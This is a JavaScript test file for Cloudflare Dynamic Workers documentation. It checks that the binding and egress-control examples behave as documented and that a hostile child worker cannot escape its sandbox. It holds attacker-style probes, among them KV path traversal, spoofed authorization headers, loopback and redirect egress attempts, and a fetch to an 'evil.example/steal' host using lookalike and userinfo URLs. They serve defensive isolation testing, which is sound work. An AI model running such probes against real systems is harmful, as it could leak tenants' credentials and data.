// Tests for docs sections "Bindings" and "Egress control": each example does what the docs say,
// and a hostile Dynamic Worker gets nothing it was not given (no props, no other tenant's data, no
// network but its globalOutbound).
import { WorkerEntrypoint } from "cloudflare:workers";
import { assert, assertEqual, assertDeepEqual } from "assert.js";
import { code as egressChild } from "egress-child.js";

const NOT_PERMITTED = "This worker is not permitted to access the internet via global functions " +
  "like fetch(). It must use capabilities (such as bindings in 'env') to talk to the outside world.";
const tag = () => crypto.randomUUID();
const hits = async (env, t) => Number(await (await env.UPSTREAM.fetch(`http://upstream/count?tag=${t}`)).text());

// What a call came to: "STATUS body", or "threw Name: message".
// Values that came over RPC from another worker, compared as JSON (their prototypes are not ours).
function assertJson(actual, expected, message = undefined) {
  assertEqual(JSON.stringify(actual), JSON.stringify(expected), message);
}

async function outcome(promise) {
  try {
    const response = await promise;
    return `${response.status} ${await response.text()}`;
  } catch (e) {
    return `threw ${e.name}: ${e.message}`;
  }
}

function child(source, fields = {}) {
  return { compatibilityDate: "2026-05-08", mainModule: "index.js", modules: { "index.js": source }, ...fields };
}

// A hostile child's default export runs ATTEMPTS (an object of async functions, as source text)
// and answers with each one's result, or what it threw.
function prober(attempts) {
  return `
    import { WorkerEntrypoint } from "cloudflare:workers";
    import { connect } from "cloudflare:sockets";
    export default class extends WorkerEntrypoint {
      async fetch(request) {
        const env = this.env, ctx = this.ctx;
        const attempts = ${attempts};
        const out = {};
        for (const [name, attempt] of Object.entries(attempts)) {
          try {
            out[name] = { ok: await attempt() };
          } catch (e) {
            out[name] = { threw: e.name + ": " + e.message };
          }
        }
        return Response.json(out);
      }
    }
  `;
}

async function probe(env, attempts, fields = {}) {
  const response = await env.LOADER.load(child(prober(attempts), fields)).getEntrypoint().fetch("http://child/");
  const body = await response.text();
  assertEqual(response.status, 200, `the prober failed: ${body.slice(0, 300)}`);
  return JSON.parse(body);
}

// --- Bindings: "Example: Chat room agent" ------------------------------------------------------

export const chatRoomAgentPostsHello = {
  async test(ctrl, env) {
    assertEqual(await outcome(env.CHAT_ROOM_APP.fetch("http://loader/")), "200 agent ran: undefined");
    // The agent only said "Hello!": the room, the API key and the bot name came from the props.
    assertJson(await env.CHAT.take("#bot-chat"), [{ apiKey: "robo-api-key", text: "[Robo]: Hello!" }]);
  },
};

// The example as printed: compatibilityDate "$today", and an agent module that extends
// WorkerEntrypoint without importing it. The real binding rejects both (so does workerd's).
export const chatRoomAgentAsPrinted = {
  async test(ctrl, env) {
    const raw = await outcome(env.CHAT_ROOM_APP.fetch("http://loader/?raw=1"));
    assert(raw.startsWith("threw ") || raw.startsWith("500 "), raw);
    assert(raw.includes("compatibilityDate") || raw.includes("compatibility date"), raw);
    const noImport = await outcome(env.CHAT_ROOM_APP.fetch("http://loader/?raw=imports"));
    assert(noImport.includes("WorkerEntrypoint is not defined"), noImport);
    assertJson(await env.CHAT.take("#bot-chat"), []);
  },
};

export const chatRoomHostileAgent = {
  async test(ctrl, env) {
    const out = await probe(env, `{
      envKeys: async () => Object.keys(env),
      ownProps: async () => ctx.props,
      stubCtx: async () => await env.CHAT_ROOM.ctx,
      stubProps: async () => await env.CHAT_ROOM.ctx.props,
      stubEnv: async () => await env.CHAT_ROOM.env,
      stubPropsField: async () => await env.CHAT_ROOM.props,
      stubFetch: async () => (await env.CHAT_ROOM.fetch("http://x/")).status,
      otherMethod: async () => await env.CHAT_ROOM.postToChat("k", "#general", "hi"),
      post: async () => await env.CHAT_ROOM.post("Hello!"),
      postLookalike: async () => await env.CHAT_ROOM.post("]: [Robo]: spoof"),
      postObject: async () => await env.CHAT_ROOM.post({ roomName: "#general", apiKey: "stolen" }),
      network: async () => (await fetch("https://chat.example/api/post")).status,
    }`, { env: { CHAT_ROOM: env.HOSTILE_CHAT_ROOM }, globalOutbound: null });
    assertDeepEqual(out.envKeys, { ok: ["CHAT_ROOM"] });
    assertDeepEqual(out.ownProps, { ok: {} });
    for (const name of ["stubCtx", "stubProps", "stubEnv", "stubPropsField", "otherMethod"]) {
      assert(out[name].threw?.includes("does not implement"), `${name}: ${JSON.stringify(out[name])}`);
    }
    assert(out.stubFetch.threw?.includes("does not export a fetch() function"), JSON.stringify(out.stubFetch));
    assertDeepEqual(out.post, {}, "post() resolves to undefined (so JSON leaves out ok)");
    assertEqual(out.network.threw, "Error: " + NOT_PERMITTED);
    // Every message went to the props' room, with the props' key and bot name.
    assertJson(await env.CHAT.take("#mallory"), [
      { apiKey: "mallory-key", text: "[Mallory]: Hello!" },
      { apiKey: "mallory-key", text: "[Mallory]: ]: [Robo]: spoof" },
      { apiKey: "mallory-key", text: "[Mallory]: [object Object]" },
    ]);
    assertJson(await env.CHAT.take("#general"), []);
  },
};

// --- Bindings: "How it works", steps 1-3 -------------------------------------------------------

export const stepsOneClassManyRooms = {
  async test(ctrl, env) {
    assertEqual(await outcome(env.STEPS_APP.fetch("http://loader/step2")), '200 [["CHAT_ROOM"]]');
    assertJson(await env.CHAT.take("#bot-chat"), [{ apiKey: null, text: "Hello!" }]);
    assertEqual(await outcome(env.STEPS_APP.fetch("http://loader/step3")), '200 [["CHAT_ROOM"],["CHAT_ROOM"]]');
    assertJson(await env.CHAT.take("#alice"), [{ apiKey: null, text: "Hello!" }]);
    assertJson(await env.CHAT.take("#bob"), [{ apiKey: null, text: "Hello!" }]);
  },
};

// --- Bindings: "Example: Scoping a KV namespace per customer" ----------------------------------

export const storageScopedPerCustomer = {
  async test(ctrl, env) {
    const first = await env.STORAGE_APP.fetch("http://loader/?customer=alice");
    assertEqual(first.status, 200);
    assertDeepEqual(await first.json(), { before: null, after: "dark-mode" });
    // A second Dynamic Worker for the same customer sees what the first stored.
    assertDeepEqual(await (await env.STORAGE_APP.fetch("http://loader/?customer=alice")).json(),
      { before: "dark-mode", after: "dark-mode" });
    // Another customer starts from nothing.
    assertDeepEqual(await (await env.STORAGE_APP.fetch("http://loader/?customer=bob")).json(),
      { before: null, after: "dark-mode" });
    assertEqual(await env.KV.get("customer-alice:settings"), "dark-mode");
    assertEqual(await env.KV.get("customer-bob:settings"), "dark-mode");
    for (const customer of ["alice", "bob"]) {
      assertJson((await env.KV.list({ prefix: `customer-${customer}` })).keys.map((k) => k.name),
        [`customer-${customer}:settings`]);
    }
  },
};

export const storageHostileCustomer = {
  async test(ctrl, env) {
    await env.KV.put("customer-victim:settings", "victim-secret");
    const out = await probe(env, `{
      traversal: async () => await env.STORAGE.get("../customer-victim:settings"),
      otherPrefix: async () => await env.STORAGE.get("customer-victim:settings"),
      put: async () => await env.STORAGE.put("settings", "mine"),
      putNonString: async () => await env.STORAGE.put("blob", { toString() { return "x"; } }),
      own: async () => await env.STORAGE.get("settings"),
      kvThroughStub: async () => await env.STORAGE.env.MY_KV.get("customer-victim:settings"),
      props: async () => await env.STORAGE.ctx.props,
      list: async () => await env.STORAGE.list(),
    }`, { env: { STORAGE: env.HOSTILE_STORAGE }, globalOutbound: null });
    assertDeepEqual(out.traversal, { ok: null });
    assertDeepEqual(out.otherPrefix, { ok: null });
    assertDeepEqual(out.own, { ok: "mine" });
    assert(out.putNonString.threw !== undefined, JSON.stringify(out.putNonString));
    for (const name of ["kvThroughStub", "props", "list"]) {
      assert(out[name].threw?.includes("does not implement"), `${name}: ${JSON.stringify(out[name])}`);
    }
    assertEqual(await env.KV.get("customer-victim:settings"), "victim-secret");
    assertJson((await env.KV.list({ prefix: "customer-mallory" })).keys.map((k) => k.name),
      ["customer-mallory:settings"]);
  },
};

// --- Egress control: "Block all outbound access" -----------------------------------------------

export const blockedFetchAndConnectThrow = {
  async test(ctrl, env) {
    const t = tag();
    assertEqual(await outcome(env.BLOCKED_APP.fetch(`http://loader/?target=${encodeURIComponent(`https://example.com/?tag=${t}`)}`)),
      "599 Error: " + NOT_PERMITTED);
    assertEqual(await outcome(env.BLOCKED_APP.fetch("http://loader/?connect=example.com:443")),
      "599 Error: " + NOT_PERMITTED);
    assertEqual(await hits(env, t), 0);
  },
};

export const blockedAsPrinted = {
  async test(ctrl, env) {
    // No compatibilityDate in the docs' WorkerCode: the real binding refuses it.
    const raw = await outcome(env.BLOCKED_APP.fetch("http://loader/?raw=1&target=https://example.com/"));
    assert(raw.includes("compatibilityDate") || raw.includes("compatibility date"), raw);
  },
};

// Every route out a hostile child might try, with globalOutbound: null. The loader's own
// outbound (upstream) counts any request that arrives there.
export const blockedHostileChild = {
  async test(ctrl, env) {
    const t = tag();
    const out = await probe(env, `{
      https: async () => (await fetch("https://example.com/?tag=${t}")).status,
      loopback: async () => (await fetch("http://127.0.0.1:8080/?tag=${t}")).status,
      localhost: async () => (await fetch("http://localhost/?tag=${t}")).status,
      ipv6: async () => (await fetch("http://[::1]/?tag=${t}")).status,
      requestObject: async () => (await fetch(new Request("http://upstream/?tag=${t}", { method: "POST", body: "x" }))).status,
      manualRedirect: async () => (await fetch("http://upstream/redirect?tag=${t}&to=/", { redirect: "manual" })).status,
      upgrade: async () => (await fetch("http://upstream/?tag=${t}", { headers: { upgrade: "websocket", connection: "upgrade" } })).status,
      connectString: async () => { const s = connect("127.0.0.1:80"); await s.opened; return "opened"; },
      connectObject: async () => { const s = connect({ hostname: "example.com", port: 443 }); await s.opened; return "opened"; },
      webSocket: async () => typeof new WebSocket("wss://example.com/?tag=${t}"),
      globalOutboundInEnv: async () => Object.keys(env).length,
    }`, { globalOutbound: null });
    for (const name of ["https", "loopback", "localhost", "ipv6", "requestObject", "manualRedirect", "upgrade",
                        "connectString", "connectObject"]) {
      assertDeepEqual(out[name], { threw: "Error: " + NOT_PERMITTED }, name);
    }
    // kiln has no WebSocket (issue 15); workerd's throws NOT_PERMITTED. Either way, no socket.
    assert(out.webSocket.threw !== undefined, JSON.stringify(out.webSocket));
    assertDeepEqual(out.globalOutboundInEnv, { ok: 0 });
    assertEqual(await hits(env, t), 0);
  },
};

// The control for the tests above: without globalOutbound a child has its loader's.
export const inheritedOutboundReachesUpstream = {
  async test(ctrl, env) {
    const t = tag();
    const out = await probe(env, `{ https: async () => (await fetch("https://example.com/?tag=${t}")).status }`);
    assertDeepEqual(out.https, { ok: 200 });
    assertEqual(await hits(env, t), 1);
  },
};

// --- Egress control: "Intercept outbound requests" ---------------------------------------------

export const gatewayForwardsTheChildsFetch = {
  async test(ctrl, env) {
    const t = tag();
    const target = `https://example.com/path?tag=${t}`;
    const response = await env.GATEWAY_APP.fetch(`http://loader/?target=${encodeURIComponent(target)}`);
    const body = await response.text();
    assertEqual(response.status, 200, body);
    const seen = JSON.parse(body);
    assertEqual(seen.url, target);
    assertEqual(seen.headers["x-from"], "child");
    assertEqual(await hits(env, t), 1);
    // It went through HttpGateway, once.
    assertEqual(await (await env.GATEWAY_APP.fetch(`http://loader/gateway-log?tag=${t}`)).text(), "1");
  },
};

export const gatewayAsPrinted = {
  async test(ctrl, env) {
    const raw = await outcome(env.GATEWAY_APP.fetch("http://loader/?raw=1&target=https://example.com/"));
    assert(raw.includes("compatibilityDate") || raw.includes("compatibility date"), raw);
  },
};

export const gatewayGetsConnectToo = {
  async test(ctrl, env) {
    // The docs' HttpGateway has no connect(): the child's connect() fails, and reaches no network.
    const result = await outcome(env.GATEWAY_APP.fetch("http://loader/?connect=example.com:443"));
    assert(result.startsWith("599 Error: "), result);
    assert(result !== "599 Error: " + NOT_PERMITTED, "a gateway is an outbound: " + result);
  },
};

// A gateway of the tester's own, which answers everything itself: whatever route the child takes
// ends here, never at the tester's outbound (upstream).
const gatewayLog = new Map();
export class RecordingGateway extends WorkerEntrypoint {
  async fetch(request) {
    const url = new URL(request.url);
    const t = url.searchParams.get("tag");
    if (!gatewayLog.has(t)) gatewayLog.set(t, []);
    gatewayLog.get(t).push(`${request.method} ${url.href}`);
    if (url.pathname === "/redirect") {
      return new Response(null, { status: 302, headers: { location: url.searchParams.get("to") } });
    }
    return new Response(`gateway: ${url.href}`);
  }
}

export const gatewayHostileChild = {
  async test(ctrl, env, ctx) {
    const t = tag();
    const out = await probe(env, `{
      loopback: async () => await (await fetch("http://127.0.0.1:8080/?tag=${t}")).text(),
      localhost: async () => await (await fetch("http://localhost/?tag=${t}")).text(),
      requestObject: async () => await (await fetch(new Request("http://upstream/?tag=${t}", { method: "POST", body: "x" }))).text(),
      upgrade: async () => (await fetch("https://example.com/ws?tag=${t}", { headers: { upgrade: "websocket" } })).status,
      manualRedirect: async () => {
        const r = await fetch("https://a.example/redirect?tag=${t}&to=" + encodeURIComponent("http://127.0.0.1/?tag=${t}"), { redirect: "manual" });
        return r.status + " " + r.headers.get("location");
      },
      connect: async () => { const s = connect("127.0.0.1:80"); await s.opened; return "opened"; },
    }`, { globalOutbound: ctx.exports.RecordingGateway({ props: { tenant: "t" } }) });
    assertEqual(out.loopback.ok, `gateway: http://127.0.0.1:8080/?tag=${t}`);
    assertEqual(out.localhost.ok, `gateway: http://localhost/?tag=${t}`);
    assertEqual(out.requestObject.ok, `gateway: http://upstream/?tag=${t}`);
    assertEqual(out.upgrade.ok, 200);
    assertEqual(out.manualRedirect.ok, `302 http://127.0.0.1/?tag=${t}`);
    assert(out.connect.threw !== undefined, JSON.stringify(out.connect));
    assertEqual(gatewayLog.get(t).length, 5, JSON.stringify(gatewayLog.get(t)));
    assertEqual(await hits(env, t), 0, "nothing went around the gateway");
  },
};

// fetch() follows redirects (redirect: "follow" is the default): each hop is a new outbound
// request, so it goes through the gateway again, never around it. (workerd: passes.)
export const gatewayRedirectsAreFollowedThroughTheGateway = {
  async test(ctrl, env, ctx) {
    const t = tag();
    const out = await probe(env, `{
      follow: async () => {
        const r = await fetch("https://a.example/redirect?tag=${t}&to=" + encodeURIComponent("http://127.0.0.1/landed?tag=${t}"));
        return r.status + " " + r.url + " " + await r.text();
      },
    }`, { globalOutbound: ctx.exports.RecordingGateway({ props: {} }) });
    assertDeepEqual(gatewayLog.get(t), [
      `GET https://a.example/redirect?tag=${t}&to=http%3A%2F%2F127.0.0.1%2Flanded%3Ftag%3D${t}`,
      `GET http://127.0.0.1/landed?tag=${t}`,
    ]);
    assertEqual(out.follow.ok, `200 http://127.0.0.1/landed?tag=${t} gateway: http://127.0.0.1/landed?tag=${t}`);
    assertEqual(await hits(env, t), 0);
  },
};

// --- Egress control: "Inject credentials" ------------------------------------------------------

export const credentialsInjectedPerTenant = {
  async test(ctrl, env) {
    for (const tenant of ["acme", "globex"]) {
      const response = await env.CREDENTIALS_APP.fetch(`http://loader/?tenant=${tenant}`);
      const body = await response.text();
      assertEqual(response.status, 200, body);
      const seen = JSON.parse(body);
      assertEqual(seen.url, "https://api.example.com/data");
      assertEqual(seen.headers.authorization, "Bearer s3cr3t-token");
      assertEqual(seen.headers["x-tenant-id"], tenant);
    }
  },
};

export const credentialsAsPrinted = {
  async test(ctrl, env) {
    const raw = await outcome(env.CREDENTIALS_APP.fetch("http://loader/?raw=1&tenant=acme"));
    assert(raw.includes("compatibilityDate") || raw.includes("compatibility date"), raw);
  },
};

export const credentialsHostileTenant = {
  async test(ctrl, env) {
    const t = tag();
    const out = await probe(env, `{
      env: async () => Object.keys(env),
      props: async () => ctx.props,
      spoofed: async () => (await fetch("https://api.example.com/data?tag=${t}", {
        headers: { authorization: "Bearer mine", "x-tenant-id": "acme" } })).json(),
      upperCase: async () => (await fetch("https://API.EXAMPLE.COM/data?tag=${t}")).json(),
      otherHost: async () => (await fetch("https://evil.example/steal?tag=${t}", {
        headers: { authorization: "Bearer mine" } })).json(),
      lookalike: async () => (await fetch("https://api.example.com.evil.example/?tag=${t}")).json(),
      userinfo: async () => (await fetch("https://api.example.com@evil.example/?tag=${t}")).json(),
      gatewayEnv: async () => await env.GATEWAY.env,
    }`, { env: { GATEWAY: env.HOSTILE_GATEWAY }, globalOutbound: env.HOSTILE_GATEWAY });
    assertDeepEqual(out.env, { ok: ["GATEWAY"] });
    assertDeepEqual(out.props, { ok: {} });
    // The gateway's set() replaces what the child sent, with the props' tenant.
    assertEqual(out.spoofed.ok.headers.authorization, "Bearer s3cr3t-token");
    assertEqual(out.spoofed.ok.headers["x-tenant-id"], "mallory");
    assertEqual(out.upperCase.ok.headers["x-tenant-id"], "mallory");
    // Other hosts get no credentials: only what the child itself sent.
    assertEqual(out.otherHost.ok.headers.authorization, "Bearer mine");
    assertEqual(out.otherHost.ok.headers["x-tenant-id"], undefined);
    assertEqual(out.lookalike.ok.headers.authorization, undefined);
    // A URL with credentials: kiln's Request refuses it (as the Fetch standard says), workerd's
    // sends it to evil.example. Either way, with no token.
    assert(out.userinfo.threw === "TypeError: Request cannot be constructed from a URL that includes credentials." ||
      (out.userinfo.ok.url.startsWith("https://evil.example/") && out.userinfo.ok.headers.authorization === undefined),
      JSON.stringify(out.userinfo));
    assert(out.gatewayEnv.threw?.includes("does not implement"), JSON.stringify(out.gatewayEnv));
    assertEqual(await hits(env, t), out.userinfo.ok ? 5 : 4);
  },
};
